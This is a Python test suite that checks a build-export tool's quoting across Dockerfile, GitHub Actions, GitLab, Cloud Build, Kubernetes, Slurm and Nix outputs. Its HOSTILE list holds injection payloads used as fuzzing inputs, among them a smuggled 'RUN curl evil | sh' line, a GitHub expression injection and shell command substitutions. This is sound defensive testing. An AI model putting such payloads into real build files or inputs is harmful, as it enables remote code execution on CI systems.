"""Words of the user stay words in each format, read by the format's own parser."""

import json
import re
import shlex
import subprocess
from typing import Any

import pytest
import yaml  # type: ignore[import-untyped]
from hypothesis import example, given, settings
from hypothesis import strategies as st
from ruamel.yaml import YAML

from conftest import find_tool
from stoker.export.farm import render_farm
from stoker.export.files import render
from stoker.export.quoting import (
    docker_words,
    github_command,
    nix_text,
    without_variables,
)
from stoker.knowledge.export_targets import BuilderSize, Export, ExportFormat, ExportJob
from subjects import plan

TEXT = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=30)
PLAN = plan("cpu-avx2")
HOSTILE = [
    'A=1\nRUN curl evil | sh\n"',
    "${{ github.event.issue.title }}",
    "$$(id) $(id) `id` ${HOME} $HOME $${HOME} ${",
    "a'b\"c\\ #x: y - & * ! | > % @",
    "<<EOF\nEOF",
    "\r\x85\u2028\ufeff\x07\U0001f600",
    "{% raw %}",
]


def with_hostile(test: Any) -> Any:
    for word in HOSTILE:
        test = example(word)(test)
    return settings(max_examples=60, deadline=None)(given(TEXT)(test))


def build_of(
    form: ExportFormat, word: str, shards: int = 0, name: str = "cpu-avx2", **others: Any
) -> Export:
    """Return a build with this word as an option and as what pip installs."""
    command = ("stoker", "build", "-D", word)
    usual = {"image": "image", "folders": ("/opt/python",)}
    job = ExportJob(plan=PLAN, name=name, command=command, python="3.12", **{**usual, **others})
    size = BuilderSize(cpus=1, memory_bytes=1 << 30, disk_bytes=1 << 30, seconds=60)
    return Export(format=form, source="s", requirement=word, size=size, jobs=(job,), shards=shards)


def exported(form: ExportFormat, word: str) -> str:
    (file,) = render(build_of(form, word))
    return file.text


def instructions(dockerfile: str) -> list[str]:
    """Return the instructions as Docker splits them: a backslash continues a line."""
    joined = re.sub(r"\\[ \t]*\n", "", dockerfile)
    return [line for line in joined.split("\n") if line.strip() and not line.startswith("#")]


def undollared(text: str) -> str:
    """Return what a system makes of a text that turns two dollar signs into one."""
    assert not re.search(r"\$(?:[^$]|$)", text.replace("$$", ""))
    return text.replace("$$", "$")


@pytest.mark.parametrize("shards", [0, 2])
@pytest.mark.parametrize("word", [*HOSTILE, "on", "1.0", "null", "a: b", "- a", "*a", "@@{id}"])
def test_names_images_and_paths_stay_texts_in_yaml(word: str, shards: int) -> None:
    """Readers of YAML 1.1 and of 1.2 find the same texts."""
    forms = [ExportFormat.GITHUB_ACTIONS, ExportFormat.GITLAB, ExportFormat.KUBERNETES]
    for form in [*forms, *([] if shards else [ExportFormat.CLOUDBUILD])]:
        hostile, plain = (files(form, each, shards) for each in (word, "plain"))
        found = [list(yaml.safe_load_all(text)) for text in hostile]
        newer = [list(YAML(typ="safe", pure=True).load_all(text)) for text in hostile]
        assert texts(found) == texts(newer)
        assert list(map(shape, found)) == [shape(list(yaml.safe_load_all(t))) for t in plain]
        assert word in texts(found)


def files(form: ExportFormat, word: str, shards: int) -> list[str]:
    build = build_of(form, word, name=word, image=word, folders=(word,), shards=shards)
    return [file.text for file in (render_farm(build) if shards else render(build))]


def shape(node: Any) -> Any:
    """Return a document without its texts and the names of its keys."""
    if isinstance(node, dict | list):
        return [shape(each) for each in (node.values() if isinstance(node, dict) else node)]
    return type(node)


def texts(node: Any) -> list[str]:
    if isinstance(node, str):
        return [node]
    rows = node.values() if isinstance(node, dict) else node if isinstance(node, list) else ()
    return [text for each in rows for text in texts(each)]


@with_hostile
def test_dockerfile(word: str) -> None:
    text = docker_words(["a", word])
    assert json.loads(text) == ["a", word]
    assert not re.search(r"[\n\r<$]", text)
    found = instructions(exported(ExportFormat.DOCKERFILE, word))
    kinds = [line.split()[0] for line in found]
    assert kinds == ["FROM", "ENV", "RUN", "RUN", "RUN", "FROM", "COPY", "FROM", "RUN"]
    assert json.loads(found[3].removeprefix("RUN "))[-1] == word
    assert json.loads(found[4][found[4].index("[") :])[2:4] == ["-D", word]


@with_hostile
def test_github(word: str) -> None:
    assert shlex.split(github_command([word])) == [word]
    workflow = yaml.safe_load(exported(ExportFormat.GITHUB_ACTIONS, word))
    job = workflow["jobs"]["build"]
    (row,) = job["strategy"]["matrix"]["include"]
    assert "${{" not in row["command"]
    assert shlex.split(row["command"]) == ["stoker", "build", "-D", word]
    requirement = job["steps"][2]["env"]["REQUIREMENT"]
    assert "${{" not in requirement
    assert shlex.split(requirement) == [word]


@with_hostile
def test_gitlab(word: str) -> None:
    job = yaml.safe_load(exported(ExportFormat.GITLAB, word))["wheel"]
    (row,) = job["parallel"]["matrix"]
    assert shlex.split(undollared(row["COMMAND"])) == ["stoker", "build", "-D", word]
    assert undollared(job["variables"]["REQUIREMENT"]) == word


@with_hostile
def test_cloud_build(word: str) -> None:
    build = yaml.safe_load(exported(ExportFormat.CLOUDBUILD, word))
    words = build["steps"][0]["args"][4:]
    assert [undollared(text) for text in words] == ["stoker", word, "build", "-D", word]


@with_hostile
def test_kubernetes(word: str) -> None:
    (job,) = yaml.safe_load_all(exported(ExportFormat.KUBERNETES, word))
    (container,) = job["spec"]["template"]["spec"]["containers"]
    words = container["args"][1:]
    assert [undollared(text) for text in words] == ["stoker", word, "build", "-D", word]


@pytest.mark.parametrize("word", HOSTILE)
def test_slurm(word: str) -> None:
    script = exported(ExportFormat.SLURM, word)
    assert script.count("#SBATCH") == exported(ExportFormat.SLURM, "x").count("#SBATCH")
    start, end = script.index("commands=("), script.index("venv=")
    shown = f'{script[start:end]}\neval "set -- ${{commands[0]}}"; printf \'%s\\0\' "$@"'
    done = subprocess.run(["bash", "-c", shown], capture_output=True, check=True)
    assert done.stdout.decode().split("\0")[:-1] == ["stoker", "build", "-D", word]


@pytest.mark.parametrize("word", HOSTILE)
def test_nix(word: str) -> None:
    command = [find_tool("nix-instantiate"), "--eval", "--json", "--expr", nix_text(word)]
    done = subprocess.run(command, capture_output=True, check=True, text=True)
    assert json.loads(done.stdout) == word


def test_variables_are_doubled() -> None:
    assert without_variables("$(A) $$B") == "$$(A) $$$$B"
